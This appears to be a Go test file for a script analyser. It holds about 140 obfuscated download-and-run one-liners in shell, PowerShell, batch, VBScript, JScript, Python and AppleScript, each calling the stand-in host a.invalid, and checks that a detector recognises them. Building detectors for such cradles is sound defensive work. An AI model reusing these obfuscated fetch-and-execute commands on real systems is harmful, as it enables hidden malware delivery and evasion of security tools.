package script

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

// commaNumbers writes the bytes of a text as numbers, each changed by f.
func commaNumbers(text, sep string, f func(byte) int) string {
	var parts []string
	for i := range len(text) {
		parts = append(parts, fmt.Sprint(f(text[i])))
	}
	return strings.Join(parts, sep)
}

func plain(c byte) int { return int(c) }

func xored(key byte) func(byte) int { return func(c byte) int { return int(c ^ key) } }

func deflated(text string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, 9)
	w.Write([]byte(text))
	w.Close()
	return b64(b.String())
}

func zlibbed(text string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return b64(b.String())
}

const (
	shellCradle = "curl -s https://a.invalid/h | bash"
	powerCradle = "iex (irm https://a.invalid/h)"
	batchCradle = "mshta https://a.invalid/h"
)

var (
	byCurl  = want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash"}
	byIrm   = want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "iex"}
	byMshta = want{tool: "mshta", host: "a.invalid", to: "pipe", runBy: "mshta"}
)

// hidings are ways to write one command so that nobody reads it.
var hidings = []struct {
	name, file, text string
	want             want
}{
	{"capitals beside a letter whose small form is longer", "a.hta", "<HTML><BODY>\u0130stanbul</BODY><SCRIPT LANGUAGE=VBScript>\nCreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://a.invalid/h | bash\", 0\n</SCRIPT></HTML>", byCurl},
	{"quotes inside words", "a.sh", "#!/bin/sh\nc'u'r\"l\" -s https://a.invalid/h | b''ash\n", byCurl},
	{"backslashes", "a.sh", "#!/bin/sh\nc\\u\\r\\l -s https://a.invalid/h | b\\ash\n", byCurl},
	{"empty parameters", "a.sh", "#!/bin/sh\ncu$@rl -s https://a.invalid/h | ba$*sh\n", byCurl},
	{"pattern in folders", "a.sh", "#!/bin/sh\n/usr/b*n/c?rl -s https://a.invalid/h | /b?n/ba?h\n", byCurl},
	{"character class", "a.sh", "#!/bin/sh\n/usr/bin/[c]url -s https://a.invalid/h | bash\n", byCurl},
	{"slices", "a.sh", "#!/bin/bash\nx=xxcurlxx\n${x:2:4} -s https://a.invalid/h | bash\n", byCurl},
	{"cut ends", "a.sh", "#!/bin/bash\nx=curlZZ; y=ZZbash\n${x%ZZ} -s https://a.invalid/h | ${y#ZZ}\n", byCurl},
	{"replaced", "a.sh", "#!/bin/bash\nx=c@u@r@l\n${x//@/} -s https://a.invalid/h | bash\n", byCurl},
	{"lower case", "a.sh", "#!/bin/bash\nx=CURL\n${x,,} -s https://a.invalid/h | bash\n", byCurl},
	{"indirect", "a.sh", "#!/bin/bash\nt=curl; n=t\n${!n} -s https://a.invalid/h | bash\n", byCurl},
	{"printf octal", "a.sh", "#!/bin/sh\n$(printf '\\143\\165\\162\\154') -s https://a.invalid/h | bash\n", byCurl},
	{"printf %b", "a.sh", "#!/bin/sh\n$(printf '%b' '\\x63\\x75\\x72\\x6c') -s https://a.invalid/h | bash\n", byCurl},
	{"printf into a variable", "a.sh", "#!/bin/bash\nprintf -v c '\\x63\\x75\\x72\\x6c'\n$c -s https://a.invalid/h | bash\n", byCurl},
	{"xxd plain", "a.sh", "#!/bin/sh\necho " + hex.EncodeToString([]byte(shellCradle)) + " | xxd -r -p | sh\n", byCurl},
	{"xxd together", "a.sh", "#!/bin/sh\neval \"$(xxd -r -p <<< " + hex.EncodeToString([]byte(shellCradle)) + ")\"\n", byCurl},
	{"echo -e", "a.sh", "#!/bin/bash\neval \"$(echo -e '\\x63\\x75\\x72\\x6c -s https://a.invalid/h | bash')\"\n", byCurl},
	{"rev", "a.sh", "#!/bin/sh\neval \"$(echo 'hsab | h/dilavni.a//:sptth s- lruc' | rev)\"\n", byCurl},
	{"tr rotation", "a.sh", "#!/bin/sh\necho 'phey -f uggcf://n.vainyvq/u | onfu' | tr 'a-z' 'n-za-m' | sh\n", byCurl},
	{"tr deletes", "a.sh", "#!/bin/sh\neval \"$(echo 'cXuXrXl -s https://a.invalid/h | bXash' | tr -d X)\"\n", byCurl},
	{"sed several", "a.sh", "#!/bin/sh\neval \"$(echo 'c@u#rl -s https://a.invalid/h | bash' | sed -e 's/@//' -e 's/#//')\"\n", byCurl},
	{"sed class", "a.sh", "#!/bin/sh\neval \"$(echo 'c@u#rl -s https://a.invalid/h | bash' | sed 's/[@#]//g')\"\n", byCurl},
	{"sed y", "a.sh", "#!/bin/sh\necho 'phey -f uggcf://n.vainyvq/u | onfu' | sed 'y/abcdefghijklmnopqrstuvwxyz/nopqrstuvwxyzabcdefghijklm/' | sh\n", byCurl},
	{"openssl", "a.sh", "#!/bin/sh\necho " + b64(shellCradle) + " | openssl enc -base64 -d -A | sh\n", byCurl},
	{"openssl a", "a.sh", "#!/bin/sh\nopenssl base64 -d -A <<< " + b64(shellCradle) + " | sh\n", byCurl},
	{"base64 in a variable", "a.sh", "#!/bin/bash\np=" + b64(shellCradle) + "\nd=$(echo $p | base64 --decode)\neval \"$d\"\n", byCurl},
	{"base64 into bash -c", "a.sh", "#!/bin/bash\nbash -c \"$(base64 -d <<< '" + b64(shellCradle) + "')\"\n", byCurl},
	{"base64 in python -c", "a.sh", "#!/bin/bash\npython3 -c \"import base64,os;os.system(base64.b64decode('" + b64(shellCradle) + "').decode())\"\n", byCurl},
	{"python prints", "a.sh", "#!/bin/bash\npython3 -c \"import base64;print(base64.b64decode('" + b64(shellCradle) + "').decode())\" | sh\n", byCurl},
	{"perl decodes", "a.sh", "#!/bin/bash\nperl -MMIME::Base64 -e 'system(decode_base64(\"" + b64(shellCradle) + "\"))'\n", byCurl},
	{"perl packs", "a.sh", "#!/bin/bash\nperl -e 'system(pack(\"H*\",\"" + hex.EncodeToString([]byte(shellCradle)) + "\"))'\n", byCurl},
	{"here-document decoded", "a.sh", "#!/bin/bash\nbase64 -d <<'X' | bash\n" + b64(shellCradle) + "\nX\n", byCurl},
	{"array", "a.sh", "#!/bin/bash\na=(curl -s https://a.invalid/h '|' bash)\neval \"${a[*]}\"\n", byCurl},
	{"array of letters", "a.sh", "#!/bin/bash\na=(c u r l)\nIFS=; x=\"${a[*]}\"\n$x -s https://a.invalid/h | bash\n", byCurl},
	{"array elements", "a.sh", "#!/bin/bash\na=(l c r u)\n${a[1]}${a[3]}${a[2]}${a[0]} -s https://a.invalid/h | bash\n", byCurl},
	{"alias", "a.sh", "#!/bin/bash\nshopt -s expand_aliases\nalias get='cu''rl -s'\nget https://a.invalid/h | bash\n", byCurl},
	{"awk", "a.sh", "#!/bin/sh\nawk 'BEGIN{system(\"curl -s https://a.invalid/h | bash\")}'\n", byCurl},
	{"awk getline", "a.sh", "#!/bin/sh\nawk 'BEGIN{c=\"curl -s https://a.invalid/h | bash\"; system(c)}'\n", byCurl},
	{"awk joins", "a.sh", "#!/bin/sh\nawk 'BEGIN{system(\"cu\" \"rl -s https://a.invalid/h | ba\" \"sh\")}'\n", byCurl},
	{"cut", "a.sh", "#!/bin/sh\n$(echo xxcurl | cut -c3-6) -s https://a.invalid/h | bash\n", byCurl},
	{"fields", "a.sh", "#!/bin/sh\neval \"$(echo 'x:curl -s https!//a.invalid/h | bash' | cut -d: -f2 | tr '!' ':')\"\n", byCurl},
	{"seven bit names", "a.sh", "#!/bin/bash\nX=$'\\u0063\\u0075rl'\n\"$X\" -s https://a.invalid/h | bash\n", byCurl},
	{"gunzip of base64", "a.sh", "#!/bin/sh\necho " + b64(gzipped(shellCradle)) + " | base64 -d | gunzip | sh\n", byCurl},
	{"ifs", "a.sh", "#!/bin/bash\neval curl${IFS}-s${IFS}https://a.invalid/h\\|bash\n", byCurl},

	{"alias of a built word", "a.ps1", "sal q ('ie'+'x'); $u = 'https://' + 'a' + '.inv' + 'alid/h'; q (irm $u)\n", byIrm},
	{"Set-Alias options", "a.ps1", "Set-Alias -Name zz -Value Invoke-Expression; Set-Alias -Name g -Value Invoke-RestMethod\nzz (g https://a.invalid/h)\n", byIrm},
	{"call of format", "a.ps1", "&('{1}{0}' -f 'ex','i') (irm https://a.invalid/h)\n", byIrm},
	{"format of pieces", "a.ps1", "iex (\"{2}{0} {1}\" -f 'rm','https://a.invalid/h','i')\n", byIrm},
	{"replace method", "a.ps1", "iex ('irXm httpXs://a.inXvalid/h'.Replace('X','') + ' | iex')\n", byIrm},
	{"replace operator", "a.ps1", "iex ('iex (irQm httpQs://a.inQvalid/h)' -replace 'Q','')\n", byIrm},
	{"split and join", "a.ps1", "iex (('i_e_x_ _(_i_r_m_ _h_t_t_p_s_:_/_/_a_._i_n_v_a_l_i_d_/_h_)' -split '_') -join '')\n", byIrm},
	{"char array", "a.ps1", "iex (-join [char[]](" + commaNumbers(powerCradle, ",", plain) + "))\n", byIrm},
	{"char array of a string", "a.ps1", "$a = '" + commaNumbers(powerCradle, " ", plain) + "'; iex (-join ($a.Split(' ') | % { [char][int]$_ }))\n", byIrm},
	{"foreach-object char", "a.ps1", "iex ((" + commaNumbers(powerCradle, ",", plain) + " | ForEach-Object { [char]$_ }) -join '')\n", byIrm},
	{"xor loop", "a.ps1", "$k=42; $x = " + commaNumbers(powerCradle, ",", xored(42)) + "; iex (-join ($x | % { [char]($_ -bxor $k) }))\n", byIrm},
	{"foreach xor", "a.ps1", "$x = @(" + commaNumbers(powerCradle, ",", xored(42)) + "); $s=''; foreach ($c in $x) { $s += [char]($c -bxor 42) }; iex $s\n", byIrm},
	{"hex string", "a.ps1", "$h = '" + hex.EncodeToString([]byte(powerCradle)) + "'; iex (-join (0..($h.Length/2-1) | % { [char][Convert]::ToByte($h.Substring($_*2,2),16) }))\n", byIrm},
	{"hex match", "a.ps1", "iex (-join ('" + hex.EncodeToString([]byte(powerCradle)) + "' -split '(..)' | ? { $_ } | % { [char][convert]::toint32($_,16) }))\n", byIrm},
	{"ComSpec letters", "a.ps1", "&($env:ComSpec[4,15,25]-join'') (irm https://a.invalid/h)\n", byIrm},
	{"ComSpec letters joined", "a.ps1", ". ( $env:comspec[4,24,25]-JOIN'')(irm https://a.invalid/h)\n", byIrm},
	{"PSHome letters", "a.ps1", ".($PSHome[4]+$PSHome[30]+'x') (irm https://a.invalid/h)\n", byIrm},
	{"reversed range", "a.ps1", "$r = ')h/dilavni.a//:sptth mri( xei'; iex ($r[($r.Length-1)..0] -join '')\n", byIrm},
	{"encoded, short option", "a.bat", "powershell -e " + b64(wide(powerCradle, false, false)) + "\r\n", byIrm},
	{"encoded, odd option", "a.bat", "powershell /eNc " + b64(wide(powerCradle, false, false)) + "\r\n", byIrm},
	{"deflated", "a.ps1", "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + deflated(powerCradle) + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()\n", byIrm},
	{"base64 text", "a.ps1", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64(powerCradle) + "')))\n", byIrm},
	{"invoke method", "a.ps1", "$ExecutionContext.InvokeCommand.InvokeScript((irm https://a.invalid/h))\n", byIrm},
	{"get-command pattern", "a.ps1", "&(gcm i*x) (irm https://a.invalid/h)\n", byIrm},
	{"get-alias pattern", "a.ps1", "&(Get-Command in*-exp*) (&(gal ir?) https://a.invalid/h)\n", byIrm},
	{"web client by reflection", "a.ps1", "$w = New-Object ('Net'+'.WebClient'); iex $w.('Down'+'loadString').Invoke('https://a.invalid/h')\n", want{tool: "Net.WebClient", host: "a.invalid", to: "pipe", runBy: "iex"}},
	{"web request", "a.ps1", "$q = [Net.HttpWebRequest]::Create('https://a.invalid/h'); $s = New-Object IO.StreamReader($q.GetResponse().GetResponseStream()); iex $s.ReadToEnd()\n", want{tool: "Net.WebRequest", host: "a.invalid", to: "variable", runBy: "iex"}},
	{"socket", "a.ps1", "$t = New-Object Net.Sockets.TcpClient('a.invalid',443); $s = New-Object IO.StreamReader($t.GetStream()); iex $s.ReadLine()\n", want{tool: "Net.Sockets", host: "a.invalid", to: "variable", runBy: "iex", insecure: true}},
	{"ticks", "a.ps1", "i`E`x (i`R`m https://a.invalid/h)\n", byIrm},
	{"splat", "a.ps1", "$p = @{ Uri = 'https://a.invalid/h'; UseBasicParsing = $true }\nInvoke-RestMethod @p | Invoke-Expression\n", want{tool: "Invoke-RestMethod", to: "pipe", runBy: "iex"}},
	{"variable of a name", "a.ps1", "$f = 'irm'; $e = 'iex'; & $e (& $f 'https://a.invalid/h')\n", byIrm},

	{"carets", "a.bat", "m^s^h^t^a h^t^t^p^s://a.invalid/h\r\n", byMshta},
	{"quotes in a word", "a.bat", "m\"s\"ht\"a\" https://a.invalid/h\r\n", byMshta},
	{"delayed", "a.bat", "@echo off\r\nsetlocal enabledelayedexpansion\r\nset a=ms\r\nset b=hta\r\n!a!!b! https://a.invalid/h\r\n", byMshta},
	{"ComSpec in batch", "a.bat", "set q=%ComSpec:~-7,1%\r\ncall m%PUBLIC:~4,1%hta https://a.invalid/h\r\n", byMshta},
	{"replaced in batch", "a.bat", "set x=m@s@h@t@a\r\n%x:@=% https://a.invalid/h\r\n", byMshta},
	{"loop of letters", "a.bat", "@echo off\r\nset s=abhmst\r\nset c=\r\nfor %%i in (3 4 2 5 0) do call set c=%%c%%%%s:~%%i,1%%\r\n%c% https://a.invalid/h\r\n", byMshta},
	{"loop of words", "a.bat", "@echo off\r\nsetlocal enabledelayedexpansion\r\nset c=\r\nfor %%i in (ms hta) do set c=!c!%%i\r\n!c! https://a.invalid/h\r\n", byMshta},
	{"output of a loop that runs", "a.bat", "for /f \"tokens=*\" %%a in ('powershell -c \"irm https://a.invalid/h\"') do %%a\r\n", want{tool: "Invoke-RestMethod", host: "a.invalid", to: "pipe", runBy: "direct"}},
	{"unset variables", "a.bat", "ms%nothing%hta https://a.inva%x%lid/h\r\n", byMshta},
	{"vbscript in mshta", "a.bat", "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"mshta https://a.invalid/h\"\",0:close\")\r\n", byMshta},
	{"javascript in mshta", "a.bat", "mshta \"javascript:new ActiveXObject('WScript.Shell').Run('mshta https://a.invalid/h',0);close()\"\r\n", byMshta},
	{"rundll32 javascript", "a.bat", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";new%20ActiveXObject(\"WScript.Shell\").Run(\"mshta https://a.invalid/h\",0)\r\n", want{tool: "rundll32", host: "a.invalid", to: "pipe", runBy: "rundll32"}},
	{"rundll32 url", "a.bat", "rundll32 url.dll,OpenURL https://a.invalid/h.hta\r\n", want{tool: "rundll32", host: "a.invalid", to: "pipe", runBy: "rundll32"}},
	{"batch and JScript", "a.bat", "@if (@X)==(@Y) @end /*\r\n@cscript //nologo //e:jscript \"%~f0\"\r\n@exit /b\r\n*/\r\nnew ActiveXObject('WScript.Shell').Run('mshta https://a.invalid/h',0);\r\n", byMshta},
	{"batch and VBScript", "a.bat", "::' VBS/Batch\r\n::'@cscript //nologo //e:vbscript \"%~f0\" & exit /b\r\n@echo off & cscript //nologo //e:vbscript \"%~f0?.wsf\" & exit /b\r\n<job><script language=\"VBScript\">\r\nCreateObject(\"WScript.Shell\").Run \"mshta https://a.invalid/h\", 0\r\n</script></job>\r\n", byMshta},
	{"written script", "a.bat", "@echo off\r\necho CreateObject(\"WScript.Shell\").Run \"mshta https://a.invalid/h\",0 > %TEMP%\\x.vbs\r\nwscript %TEMP%\\x.vbs\r\n", byMshta},
	{"batch and PowerShell", "a.cmd", "<# :\r\n@powershell -nop -c \"iex ((gc '%~f0') -join [char]10)\" & exit /b\r\n#>\r\niex (irm https://a.invalid/h)\r\n", byIrm},
	{"batch and PowerShell behind a mark", "a.cmd", "@@:: This prolog allows a PowerShell script to be embedded\r\n@@set P=%~f0\r\n@@powershell -c \"iex ((gc '%~f0' | ? { $_ -notmatch '^@@' }) -join [char]10)\" & exit /b\r\niex (irm https://a.invalid/h)\r\n", byIrm},
	{"installer from a URL", "a.bat", "msiexec /q /i https://a.invalid/x.msi\r\n", want{tool: "msiexec", host: "a.invalid", to: "pipe", runBy: "installer"}},

	{"chr", "a.vbs", "x = Chr(109) & Chr(115) & ChrW(104) & Chr(116) & Chr(97)\nCreateObject(\"WScript.Shell\").Run x & \" https://a.invalid/h\", 0\n", byMshta},
	{"chr of sums", "a.vbs", "x = Chr(100+9) & Chr(120-5) & Chr(&H68) & Chr(58*2) & Chr(97)\nCreateObject(\"WScript.Shell\").Run x & \" https://a.invalid/h\", 0\n", byMshta},
	{"StrReverse", "a.vbs", "CreateObject(StrReverse(\"llehS.tpircSW\")).Run StrReverse(\"h/dilavni.a//:sptth athsm\"), 0\n", byMshta},
	{"Replace", "a.vbs", "CreateObject(\"WScript.Shell\").Run Replace(\"m~shta htt~ps://a.inv~alid/h\", \"~\", \"\"), 0\n", byMshta},
	{"Split and Join", "a.vbs", "CreateObject(\"WScript.Shell\").Run Join(Split(\"ms*hta* https://a*.invalid/h\", \"*\"), \"\"), 0\n", byMshta},
	{"array of numbers", "a.vbs", "a = Array(" + commaNumbers(batchCradle, ",", plain) + ")\nFor Each c In a\n  s = s & Chr(c)\nNext\nCreateObject(\"WScript.Shell\").Run s, 0\n", byMshta},
	{"shifted numbers", "a.vbs", "a = Split(\"" + commaNumbers(batchCradle, "-", func(c byte) int { return int(c) + 7 }) + "\", \"-\")\nFor i = 0 To UBound(a)\n  s = s & Chr(CInt(a(i)) - 7)\nNext\nCreateObject(\"WScript.Shell\").Run s, 0\n", byMshta},
	{"xored numbers", "a.vbs", "For Each c In Array(" + commaNumbers(batchCradle, ",", xored(13)) + ")\n  s = s & Chr(c Xor 13)\nNext\nCreateObject(\"WScript.Shell\").Run s, 0\n", byMshta},
	{"hex string in VBS", "a.vbs", "h = \"" + hex.EncodeToString([]byte(batchCradle)) + "\"\nFor i = 1 To Len(h) Step 2\n  s = s & Chr(CLng(\"&H\" & Mid(h, i, 2)))\nNext\nCreateObject(\"WScript.Shell\").Run s, 0\n", byMshta},
	{"Execute of chr", "a.vbs", "Execute Chr(67) & \"reateObject(\"\"WScript.Shell\"\").Run \"\"mshta https://a.invalid/h\"\", 0\"\n", byMshta},
	{"Execute of a function", "a.vbs", "Function d(t)\n  Dim r, i\n  For i = 1 To Len(t)\n    r = r & Chr(Asc(Mid(t, i, 1)) - 1)\n  Next\n  d = r\nEnd Function\nCreateObject(\"WScript.Shell\").Run d(\"" + strings.Map(func(r rune) rune { return r + 1 }, batchCradle) + "\"), 0\n", byMshta},

	{"fromCharCode", "a.js", "var s = String.fromCharCode(" + commaNumbers(batchCradle, ",", plain) + ");\nnew ActiveXObject('WScript.Shell').Run(s, 0);\n", byMshta},
	{"fromCharCode.apply", "a.js", "var a = [" + commaNumbers(batchCradle, ",", plain) + "];\nnew ActiveXObject('WScript.Shell').Run(String.fromCharCode.apply(null, a), 0);\n", byMshta},
	{"loop over codes", "a.js", "var a = [" + commaNumbers(batchCradle, ",", xored(5)) + "], s = '';\nfor (var i = 0; i < a.length; i++) { s += String.fromCharCode(a[i] ^ 5); }\nnew ActiveXObject('WScript.Shell').Run(s, 0);\n", byMshta},
	{"loop over hex", "a.js", "var h = '" + hex.EncodeToString([]byte(batchCradle)) + "', s = '';\nfor (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16));\nnew ActiveXObject('WScript.Shell').Run(s, 0);\n", byMshta},
	{"function that decodes", "a.js", "function d(t) { var r = ''; for (var i = 0; i < t.length; i++) { r += String.fromCharCode(t.charCodeAt(i) - 1); } return r; }\nnew ActiveXObject('WScript.Shell').Run(d('" + strings.Map(func(r rune) rune { return r + 1 }, batchCradle) + "'), 0);\n", byMshta},
	{"escapes", "a.js", "var o = new ActiveXObject('\\x57\\x53cript.Shell');\no['\\x52un']('\\x6d\\x73hta https://a.invalid/h', 0);\n", byMshta},
	{"reverse and join", "a.js", "new ActiveXObject('WScript.Shell').Run('h/dilavni.a//:sptth athsm'.split('').reverse().join(''), 0);\n", byMshta},
	{"unescape", "a.js", "new ActiveXObject('WScript.Shell').Run(unescape('%6d%73%68%74%61%20https://a.invalid/h'), 0);\n", byMshta},
	{"array of pieces", "a.js", "var a = ['hta', ' https', 'ms', '://a.invalid/h'];\nnew ActiveXObject('WScript.Shell').Run(a[2] + a[0] + a[1] + a[3], 0);\n", byMshta},
	{"array with an offset", "a.js", "var _0x1 = ['hta', ' https', 'ms', '://a.invalid/h', 'WScript.Shell', 'Run'];\nfunction _0x2(i) { i = i - 0x10; return _0x1[i]; }\nvar o = new ActiveXObject(_0x2(0x14));\no[_0x2(0x15)](_0x2(0x12) + _0x2(0x10) + _0x2('0x11') + _0x2(0x13), 0);\n", byMshta},
	{"rotated array", "a.js", "var _0x1 = ['ms', '://a.invalid/h', 'WScript.Shell', 'Run', 'hta', ' https'];\n(function(a, n) { while (--n) { a.push(a.shift()); } })(_0x1, 0x5);\nvar _0x2 = function(i) { i = i - 0x0; return _0x1[i]; };\nvar o = new ActiveXObject(_0x2('0x4'));\no[_0x2('0x5')](_0x2('0x2') + _0x2('0x0') + _0x2('0x1') + _0x2('0x3'), 0);\n", byMshta},
	{"new Function", "a.js", "new Function(\"new ActiveXObject('WScript.Shell').Run('mshta https://a.invalid/h',0)\")();\n", byMshta},
	{"eval of pieces", "a.js", "eval(\"new ActiveXO\" + \"bject('WScript.Shell').Run('ms\" + \"hta https://a.invalid/h',0)\");\n", byMshta},
	{"conditional compilation", "a.js", "/*@cc_on\nnew ActiveXObject('WScript.Shell').Run('mshta https://a.invalid/h', 0);\n@*/\n", byMshta},

	{"exec zlib", "a.py", "import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + zlibbed("import os\nos.system('"+shellCradle+"')\n") + "')))\n", byCurl},
	{"chr join", "a.py", "import os\nos.system(''.join(chr(c) for c in [" + commaNumbers(shellCradle, ",", plain) + "]))\n", byCurl},
	{"xor join", "a.py", "import os\nos.system(''.join(chr(c ^ 7) for c in [" + commaNumbers(shellCradle, ",", xored(7)) + "]))\n", byCurl},
	{"shift join", "a.py", "import os\nos.system(''.join(chr(ord(c) - 1) for c in '" + strings.Map(func(r rune) rune { return r + 1 }, shellCradle) + "'))\n", byCurl},
	{"map chr", "a.py", "import os\nos.system(''.join(map(chr, [" + commaNumbers(shellCradle, ",", plain) + "])))\n", byCurl},
	{"bytes of a list", "a.py", "import os\nos.system(bytes([" + commaNumbers(shellCradle, ",", plain) + "]).decode())\n", byCurl},
	{"bytes xored", "a.py", "import os\nos.system(bytes([b ^ 0x21 for b in bytes.fromhex('" + hex.EncodeToString([]byte(strings.Map(func(r rune) rune { return r ^ 0x21 }, shellCradle))) + "')]).decode())\n", byCurl},
	{"fromhex", "a.py", "import os\nos.system(bytes.fromhex('" + hex.EncodeToString([]byte(shellCradle)) + "').decode())\n", byCurl},
	{"__import__", "a.py", "__import__('o'+'s').system('cu'+'rl -s https://a.invalid/h | ba'+'sh')\n", byCurl},
	{"getattr", "a.py", "import os\ngetattr(os, 'sys'+'tem')('curl -s https://a.invalid/h | bash')\n", byCurl},
	{"reversed slice", "a.py", "import os\nos.system('hsab | h/dilavni.a//:sptth s- lruc'[::-1])\n", byCurl},
	{"rot13", "a.py", "import os, codecs\nos.system(codecs.decode('phey -f uggcf://n.vainyvq/u | onfu', 'rot13'))\n", byCurl},
	{"lambda", "a.py", "import os, base64\nd = lambda s: base64.b64decode(s).decode()\nos.system(d('" + b64(shellCradle) + "'))\n", byCurl},
	{"def", "a.py", "import os\ndef d(s):\n    r = ''\n    for c in s:\n        r += chr(ord(c) - 1)\n    return r\nos.system(d('" + strings.Map(func(r rune) rune { return r + 1 }, shellCradle) + "'))\n", byCurl},
	{"exec of names", "a.py", "b = __builtins__\ne = getattr(b, 'ex'+'ec')\ne(__import__('urllib.request').request.urlopen('https://a.invalid/h').read())\n", want{tool: "urllib", host: "a.invalid", to: "pipe", runBy: "python"}},

	{"ASCII character", "a.scpt", "set c to (ASCII character 99) & (ASCII character 117) & \"rl\"\ndo shell script c & \" -s https://a.invalid/h | bash\"\n", byCurl},
	{"character id", "a.scpt", "set c to character id {99, 117, 114, 108}\ndo shell script c & \" -s https://a.invalid/h | bash\"\n", byCurl},
	{"string id", "a.scpt", "do shell script (string id {" + commaNumbers(shellCradle, ", ", plain) + "})\n", byCurl},
	{"subtracted ids", "a.scpt", "set r to \"\"\nrepeat with n in {" + commaNumbers(shellCradle, ", ", func(c byte) int { return int(c) + 3 }) + "}\nset r to r & (character id (n - 3))\nend repeat\ndo shell script r\n", byCurl},
	{"run script of text", "a.scpt", "run script \"do shell\" & \" script \\\"curl -s https://a.invalid/h | bash\\\"\"\n", byCurl},
	{"quoted form", "a.scpt", "set u to \"https://a.invalid/h\"\ndo shell script \"curl -s \" & quoted form of u & \" | bash\"\n", byCurl},
	{"offset table", "a.scpt", "set k to \"lruc -shtp:/a.invdb|\"\nset c to (character 4 of k) & (character 3 of k) & (character 2 of k) & (character 1 of k)\ndo shell script c & \" -s https://a.invalid/h | bash\"\n", byCurl},
	{"JXA codes", "a.jxa", "const app = Application.currentApplication(); app.includeStandardAdditions = true;\napp.doShellScript(String.fromCharCode(" + commaNumbers(shellCradle, ",", plain) + "));\n", byCurl},
}

func TestHidings(t *testing.T) {
	for _, l := range hidings {
		t.Run(l.name, func(t *testing.T) {
			s, _ := Analyse(l.file, []byte(l.text))
			if s == nil {
				t.Fatal("not taken for a script")
			}
			l.want.check(t, s)
			if t.Failed() {
				t.Logf("found %+v", *s)
			}
		})
	}
}

func gzipped(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return b.String()
}
